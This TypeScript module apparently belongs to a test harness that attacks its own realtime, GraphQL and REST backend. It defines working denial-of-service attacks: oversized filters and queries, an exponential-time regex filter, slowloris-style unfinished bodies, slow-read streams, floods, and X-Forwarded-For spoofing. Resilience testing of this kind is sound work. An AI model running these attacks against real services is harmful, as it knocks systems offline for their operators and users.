import { request as httpRequest } from "node:http";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { WebSocket } from "ws";
import { ANON_KEY } from "../credentials.ts";

/** One IP address of a hostile network. The service trusts this machine as a proxy. */
export type Attacker = {
  readonly url: URL;
  /** `2001:db8:0:3::7`; the network is the first half. */
  readonly address: string;
  /** Ends the attack. */
  readonly signal: AbortSignal;
};

/** One try of an attack. Resolves when it has been refused or closed, or has nothing more to send. */
export type Attack = {
  readonly name: string;
  readonly about: string;
  run(attacker: Attacker): Promise<void>;
};

/** Each ends what it has opened after this time, and begins again. Milliseconds. */
const HOLD = 5000;
/** PostgreSQL cannot match this in linear time. */
const SLOW_PATTERN = '"(.+)(.+)(.+)(.+)(.+)(.+)\\\\1\\\\2\\\\3\\\\4\\\\5\\\\6"';

export const ATTACKS: readonly Attack[] = [
  {
    name: "long filters",
    about: "channels with filters of 6,500 values",
    run: (attacker) =>
      onChannels(attacker, async (socket) => {
        for (let i = 0; i < 100 && isOpen(socket); i++) {
          socket.send(join(`realtime:long-${i}`, { changes: [{ filter: `id=in.(${numbers(6500, i)})` }] }));
          await sleep(50);
        }
      }),
  },
  {
    name: "long documents",
    about: "GraphQL subscriptions with documents of 900 aliases",
    run: (attacker) =>
      onSocket(attacker, "/graphql", "graphql-transport-ws", async (socket) => {
        socket.send(JSON.stringify({ type: "connection_init" }));
        await sleep(200);
        for (let i = 0; i < 100 && isOpen(socket); i++) {
          const fields = Array.from({ length: 900 }, (_, n) => `a${i}_${n}: title`).join(" ");
          const query = `subscription { onArticleCreated { ${fields} } }`;
          socket.send(JSON.stringify({ id: String(i), type: "subscribe", payload: { query } }));
          await sleep(50);
        }
      }),
  },
  {
    name: "long stream filters",
    about: "streams of a table with a filter of 200,000 values in the body",
    run: (attacker) =>
      onRequest(attacker, "QUERY", "/rest/v1/events", {
        headers: { Accept: "text/event-stream", "Content-Type": "application/x-www-form-urlencoded" },
        body: `id=in.(${numbers(200_000, 0)})`,
      }),
  },
  {
    name: "presence",
    about: "members of one topic that change 60 kB of presence twice a second",
    run: (attacker) =>
      onChannels(attacker, async (socket) => {
        socket.send(join("realtime:hostile", { presence: true }));
        const payload = { event: "track", type: "presence", payload: { text: "x".repeat(60_000) } };
        for (let i = 0; i < 10 && isOpen(socket); i++) {
          socket.send(JSON.stringify(["1", String(2 + i), "realtime:hostile", "presence", payload]));
          await sleep(500);
        }
      }),
  },
  {
    name: "unread broadcasts",
    about: "broadcasts to itself that the client does not read",
    run: (attacker) =>
      onChannels(attacker, async (socket) => {
        const topic = `realtime:unread-${attacker.address}`;
        socket.send(join(topic, { self: true }));
        await sleep(200);
        socket.pause();
        const payload = { type: "broadcast", event: "noise", payload: { text: "x".repeat(250_000) } };
        for (let i = 0; i < 80 && isOpen(socket); i++) {
          socket.send(JSON.stringify(["1", String(2 + i), topic, "broadcast", payload]));
          await sleep(25);
        }
        socket.resume();
      }),
  },
  {
    name: "slow filters",
    about: "channels with a pattern that takes exponential time",
    run: (attacker) =>
      onChannels(attacker, async (socket) => {
        for (let i = 0; i < 10; i++)
          socket.send(join(`realtime:slow-${i}`, { changes: [{ filter: `body=match.${SLOW_PATTERN}` }] }));
      }),
  },
  {
    name: "leaving",
    about: "channels with filters that only PostgreSQL decides, whose clients leave at once",
    run: async (attacker) => {
      for (let i = 0; i < 20 && !attacker.signal.aborted; i++)
        await onChannels(
          attacker,
          async (socket) => {
            socket.send(join("realtime:leaving", { changes: [{ filter: "body=imatch.(a|b)+c?d*[e-g]" }] }));
            await sleep(100 + Math.random() * 100);
          },
          0,
        );
    },
  },
  {
    name: "unfinished bodies",
    about: "bodies of 16 MB of which the last byte never comes",
    run: (attacker) => unfinishedBody(attacker, 15_900_000),
  },
  {
    name: "slow streams",
    about: "streams of a large list that are read at 64 kB per second",
    run: (attacker) => slowStream(attacker),
  },
  {
    name: "floods",
    about: "GraphQL queries over a WebSocket, and the same join again and again, as fast as possible",
    run: async (attacker) => {
      await onSocket(attacker, "/graphql", "graphql-transport-ws", async (socket) => {
        socket.send(JSON.stringify({ type: "connection_init" }));
        await sleep(200);
        for (let i = 0; i < 1000 && isOpen(socket); i++) {
          const query = "{ articles(first: 20) { totalCount edges { node { title author { name } } } } }";
          socket.send(JSON.stringify({ id: String(i), type: "subscribe", payload: { query } }));
          if (i % 20 === 0) await sleep(20);
        }
      });
      await onChannels(attacker, async (socket) => {
        for (let i = 0; i < 1000 && isOpen(socket); i++) {
          socket.send(join("realtime:again", { changes: [{}] }, "0"));
          if (i % 20 === 0) await sleep(20);
        }
      });
    },
  },
];

const numbers = (count: number, from: number): string =>
  Array.from({ length: count }, (_, i) => from * count + i).join(",");

type JoinConfig = {
  readonly changes?: readonly { readonly filter?: string }[];
  readonly presence?: boolean;
  readonly self?: boolean;
};

const join = (topic: string, { changes = [], presence = false, self = false }: JoinConfig, ref = "1"): string =>
  JSON.stringify([
    ref,
    ref,
    topic,
    "phx_join",
    {
      config: {
        broadcast: { ack: false, self },
        presence: { key: "", enabled: presence },
        postgres_changes: changes.map((each) => ({ event: "*", schema: "public", table: "events", ...each })),
        private: false,
      },
    },
  ]);

const isOpen = (socket: WebSocket): boolean => socket.readyState === WebSocket.OPEN;

const onChannels = (attacker: Attacker, act: (socket: WebSocket) => Promise<void>, hold = HOLD): Promise<void> =>
  onSocket(attacker, `/realtime/v1/websocket?apikey=${ANON_KEY}&vsn=2.0.0`, [], act, hold);

/** Resolves when the socket is closed: by the service, or after the act and a while. */
function onSocket(
  { url, address, signal }: Attacker,
  path: string,
  protocol: string | string[],
  act: (socket: WebSocket) => Promise<void>,
  hold = HOLD,
): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const socket = new WebSocket(`ws://${url.host}${path}`, protocol, {
    headers: { "X-Forwarded-For": address },
    perMessageDeflate: false,
  });
  const end = () => socket.terminate();
  signal.addEventListener("abort", end);
  socket.on("error", () => {});
  socket.once("close", () => {
    signal.removeEventListener("abort", end);
    resolve();
  });
  socket.once("open", () => void act(socket).then(() => setTimeout(end, hold), end));
  return promise;
}

type Sent = { readonly headers: Readonly<Record<string, string>>; readonly body: string };

/** Reads the response until the service ends it, or for a while. */
function onRequest({ url, address, signal }: Attacker, method: string, path: string, sent: Sent): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const headers = { ...sent.headers, apikey: ANON_KEY, "X-Forwarded-For": address };
  const request = httpRequest(new URL(path, url), { method, headers, signal, agent: false });
  request.once("close", resolve);
  request.on("error", () => {});
  request.on("response", (response) => response.resume());
  request.end(sent.body);
  setTimeout(() => request.destroy(), HOLD);
  return promise;
}

function unfinishedBody({ url, address, signal }: Attacker, length: number): Promise<void> {
  const head =
    `POST /rest/v1/events HTTP/1.1\r\nHost: ${url.host}\r\napikey: ${ANON_KEY}\r\nX-Forwarded-For: ${address}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${length + 1}\r\n\r\n`;
  return onConnection(url, signal, (socket) =>
    socket.write(Buffer.concat([Buffer.from(head), Buffer.alloc(length, " ")])),
  );
}

function slowStream({ url, address, signal }: Attacker): Promise<void> {
  const head =
    `GET /rest/v1/articles?limit=100000 HTTP/1.1\r\nHost: ${url.host}\r\napikey: ${ANON_KEY}\r\n` +
    `X-Forwarded-For: ${address}\r\nAccept: application/x-ndjson\r\n\r\n`;
  return onConnection(url, signal, (socket) => {
    socket.write(head);
    socket.on("data", () => socket.pause());
    const timer = setInterval(() => socket.resume(), 1000);
    socket.once("close", () => clearInterval(timer));
  });
}

type Connection = ReturnType<typeof connect>;

/** Resolves when the connection is closed: by the service, or after a long while. */
function onConnection(url: URL, signal: AbortSignal, act: (socket: Connection) => void): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const socket = connect({ host: url.hostname, port: Number(url.port), signal });
  socket.on("error", () => {});
  socket.once("close", () => resolve());
  socket.once("connect", () => act(socket));
  socket.on("data", () => {});
  setTimeout(() => socket.destroy(), 4 * HOLD);
  return promise;
}
